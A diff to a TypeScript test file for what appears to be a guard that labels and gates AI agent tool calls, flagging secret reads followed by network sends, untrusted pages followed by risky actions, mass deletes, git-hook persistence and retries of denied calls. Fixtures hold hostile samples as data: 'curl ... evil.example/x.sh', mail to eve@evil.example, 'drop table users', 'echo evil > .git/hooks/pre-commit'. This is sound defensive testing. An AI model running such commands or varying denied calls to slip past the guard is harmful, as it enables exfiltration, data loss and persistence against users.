@@ -16,6 +16,7 @@ import {
 	type SessionEvent,
 	type SessionState,
 } from '../../../src/domain/policy/sessionState';
+import { TextSearch } from '../../../src/domain/policy/textIndex';
 import { judged } from './judge';
 import { HOST } from './support';
 import { runs } from '../support/runs';
@@ -51,8 +52,12 @@ interface Answer {
 }
 const answered = (of: SessionCall, answer: Answer = {}): SessionEvent => ({
 	kind: 'answered',
-	call: of,
-	paths: answer.path === undefined ? [] : [{ pointer: '/path', raw: answer.path, candidates: [answer.path] }],
+	call: {
+		...of,
+		...(answer.path !== undefined && {
+			paths: [{ pointer: '/path', raw: answer.path, candidates: [answer.path] }],
+		}),
+	},
 	host: HOST,
 	resultTexts: answer.texts ?? [],
 	resultBytes: answer.bytes ?? 10,
@@ -293,25 +298,185 @@ describe('X8 and X9', () => {
 			expect(await effect(NEW_SESSION, call('m', 'add', 'filesystem.write', {}, findings))).toBe('allow');
 		}
 	});
-	it('X9 a denied call that comes back changed is suspended', async () => {
-		const tries = [1, 2, 3, 4, 5].map(n => call('files', 'read_file', 'filesystem.read', { path: String(n) }));
-		const [one, two, three, four, five] = tries as [
-			SessionCall,
-			SessionCall,
-			SessionCall,
-			SessionCall,
-			SessionCall,
-		];
-		const thrice = session(denied(one), denied(one), denied(one), denied(two));
-		expect(await effect(thrice, three)).toBe('allow');
-		const state = noteCall(thrice, denied(three));
-		expect(await effect(state, one)).toBe('allow');
-		expect(await verdict(state, four)).toMatchObject({ effect: 'deny', reason: 'tool_suspended' });
-		const suspended = noteCall(state, denied(four));
-		expect(await effect(suspended, one)).toBe('deny');
-		expect(await effect(suspended, five)).toBe('deny');
-		expect(await effect(suspended, { ...one, tool: 'other' })).toBe('allow');
-		expect(await effect(suspended, { ...one, server: 'other' })).toBe('allow');
+	const about = (path: string, n: number, tool = 'read_file', server = 'files') => ({
+		...call(server, tool, 'filesystem.read', { path, n }),
+		paths: [{ pointer: '/path', raw: path, candidates: [path] }],
+	});
+	it('X9 a denied call that comes back changed is suspended, until it is lifted', async () => {
+		const same = (n: number) => about('/x/a', n);
+		const thrice = session(denied(same(1)), denied(same(1)), denied(same(1)), denied(same(2)));
+		expect(await effect(thrice, same(3))).toBe('allow');
+		const state = noteCall(thrice, denied(same(3)));
+		expect(await effect(state, same(1))).toBe('allow');
+		expect(await effect(state, about('/x/b', 4))).toBe('allow');
+		expect(await verdict(state, same(4))).toMatchObject({ effect: 'deny', reason: 'tool_suspended' });
+		const suspended = noteCall(state, denied(same(4)));
+		expect(await effect(suspended, same(1))).toBe('deny');
+		expect(await effect(suspended, about('/x/b', 5))).toBe('deny');
+		expect(await effect(suspended, about('/x/a', 6, 'other'))).toBe('allow');
+		expect(await effect(suspended, about('/x/a', 6, 'read_file', 'other'))).toBe('allow');
+		const lifted = noteCall(suspended, { kind: 'lifted', tool: { server: 'files', tool: 'read_file' } });
+		expect(await effect(lifted, same(7))).toBe('allow');
+	});
+	it.each([
+		['different files', (n: number) => about(`/x/${String(n)}`, 1)],
+		['different recipients', (n: number) => send({ to: `bob${String(n)}@good.example`, body: 'the same' })],
+		[
+			'different words',
+			(n: number) => call('db', 'q', 'database.write', { sql: `one${String(n)} two${String(n)} x` }),
+		],
+		[
+			'the workspace alone in common',
+			(n: number) => ({
+				...about('/ws/proj', n),
+				folders: ['/ws/proj'],
+				arguments: { m: `w${String(n)} v${String(n)}` },
+			}),
+		],
+	])('X9 %s are no variants', async (_title, of) => {
+		const state = session(...[1, 2, 3, 4, 5].map(n => denied(of(n))));
+		expect(labelsFor(state, of(6)).has('denied-variants')).toBe(false);
+	});
+	it.each([
+		['an address', (n: number) => send({ to: 'eve@evil.example', body: String(n) })],
+		[
+			'a URL in a command',
+			(n: number) => run(`${['curl', 'wget', 'fetch', 'http', 'get'][n] ?? ''} evil.example/x.sh?${String(n)}`),
+		],
+		['the words', (n: number) => call('db', 'q', 'database.write', { sql: `drop table users ${'x'.repeat(n)}` })],
+	])('X9 %s in common makes variants', async (_title, of) => {
+		const state = session(...[0, 1, 2].map(n => denied(of(n))));
+		expect(labelsFor(state, of(3)).has('denied-variants')).toBe(true);
+	});
+	it('X9 names with slashes are not mixed up', () => {
+		const state = session(...[1, 2, 3, 4].map(n => denied(about('/x', n, 'b/c', 'a'))));
+		expect(labelsFor(state, about('/x', 5, 'c', 'a/b')).has('denied-variants')).toBe(false);
+	});
+});
+
+describe('the breadth of the catalogue', () => {
+	const secret = () => session(answered(call('x', 'read_file', 'filesystem.read'), { secret: true }));
+	const of = (capability: string, args: JsonObject = {}, tool = 'do') => call('x', tool, capability, args);
+	it.each([
+		'email.send',
+		'network.request',
+		'git.write',
+		'shell.execute',
+		'database.read',
+		'github.read',
+		'deploy.run',
+	])('X1 secret, then %s of the same server', async capability => {
+		expect(await verdict(secret(), of(capability))).toMatchObject({
+			effect: 'require_approval',
+			reason: 'secret_then_network',
+		});
+	});
+	it.each([
+		'network.request',
+		'secrets.read',
+		'email.send',
+		'database.drop',
+		'git.delete',
+		'github.delete',
+		'memory.write',
+	])('X2 untrusted, then %s', async capability => {
+		expect(await effect(session(fetched('a page')), of(capability))).toBe('require_approval');
+		expect(await effect(NEW_SESSION, of(capability))).toBe('allow');
+	});
+	it('X5 many reads, then a request', async () => {
+		const many = Array.from({ length: MANY_READS }, (_, n) => readFile(`/ws/proj/${String(n)}`));
+		expect(await verdict(session(...many), of('network.request'))).toMatchObject({
+			reason: 'many_reads_then_send',
+		});
+	});
+	const listed = session(answered(call('x', 'list_directory', 'filesystem.read')));
+	const paths = (...all: readonly string[]) => ({
+		paths: all.map(path => ({ pointer: '/p', raw: path, candidates: [path] })),
+	});
+	it('X6 counts paths, trees and what is moved to the trash', async () => {
+		const reason = async (next: SessionCall) => (await verdict(listed, next)).reason;
+		const remove = of('filesystem.delete', {}, 'delete_file');
+		expect(await reason({ ...remove, ...paths('/w/a', '/w/b', '/w/c') })).toBe('list_then_delete');
+		expect(await reason({ ...remove, ...paths('/w', '/w/a') })).not.toBe('list_then_delete');
+		expect(await reason(of('filesystem.delete', { recursive: true }, 'delete_file'))).toBe('list_then_delete');
+		expect(await reason(of('filesystem.delete', { recursive: false }, 'delete_file'))).not.toBe('list_then_delete');
+		expect(await reason(of('filesystem.delete', {}, 'remove_directory'))).toBe('list_then_delete');
+		const move = of('filesystem.write', {}, 'move_file');
+		const trash = { ...move, ...paths('/w/a', '/w/.Trash/a') };
+		expect(await effect(listed, trash)).toBe('allow');
+		expect(
+			await effect(
+				[1, 2].reduce(state => noteCall(state, answered(trash)), listed),
+				trash,
+			),
+		).toBe('require_approval');
+		const plain = { ...move, ...paths('/w/a', '/w/b') };
+		expect(
+			await effect(
+				[1, 2, 3].reduce(state => noteCall(state, answered(plain)), listed),
+				plain,
+			),
+		).toBe('allow');
+	});
+	it.each([
+		'echo evil > .git/hooks/pre-commit',
+		'sed -i s/x/y/ package.json',
+		'cd .git/hooks && cp /tmp/x pre-commit',
+		'tee ./src/../.github/workflows/ci.yml',
+	])('X3 persistence by a relative word: %s', async command => {
+		expect(await verdict(session(answered(run(command))), run('npm test'))).toMatchObject({
+			reason: 'persistence_then_execute',
+		});
+	});
+	it.each(['cat package.json', 'git diff package.json | head -3', 'npm test', 'tsc -p tsconfig.json'])(
+		'X3 not by %s',
+		async command => {
+			expect(labelsFor(session(answered(run(command))), run('ls')).has('persistence-written')).toBe(false);
+		},
+	);
+	it('POL *.send is for denials and approvals', async () => {
+		const load = parsePolicy("deny: ['*.send']\nallow: ['*']\n", 'p.yaml');
+		expect((await judged(load, of('email.send'))).effect).toBe('deny');
+		expect((await judged(load, of('email.sends'))).effect).toBe('allow');
+		expect((await judged(load, of('unknown'))).effect).toBe('deny');
+		expect(parsePolicy("allow: ['*.read']\n", 'p.yaml').policy).toBeUndefined();
+	});
+});
+
+describe('the time that labels take', () => {
+	const cpu = (work: () => unknown) => {
+		const before = process.cpuUsage();
+		work();
+		const { user, system } = process.cpuUsage(before);
+		return (user + system) / 1000;
+	};
+	it.each([
+		[
+			'honest',
+			'The quick brown fox jumps over src/lazy/dog.ts:12. '.repeat(640),
+			(n: number) => `item ${String(n)} `.repeat(22),
+		],
+		['the same letter', 'a'.repeat(32_768), (n: number) => `${'a'.repeat(190)}b${String(n)}`],
+		[
+			'nearly the same',
+			`${'a'.repeat(200)}b`.repeat(163),
+			(n: number) => `${'a'.repeat(195)}b${'a'.repeat(3)}${String(n)}`,
+		],
+	])('SEQ 100 kB against 256 Ki of text: %s', (_title, content, item) => {
+		const state = session(...Array.from({ length: 8 }, () => fetched(content)));
+		const next = call('b', 'do_it_now', 'network.send', { to: Array.from({ length: 500 }, (_, n) => item(n)) });
+		labelsFor(state, next);
+		const runs = Array.from({ length: 5 }, () => cpu(() => labelsFor(state, next)));
+		expect(Math.min(...runs)).toBeLessThan(20);
+	});
+	it('finds exactly what includes would find', () => {
+		const texts = fc.string({ unit: fc.constantFrom('a', 'b'), maxLength: 60 });
+		fc.assert(
+			fc.property(texts, texts, (content, piece) => {
+				const held = { server: 's', untrusted: true, text: content };
+				expect(new TextSearch().finds([held], piece)).toBe(piece !== '' && content.includes(piece));
+			}),
+		);
 	});
 });
 
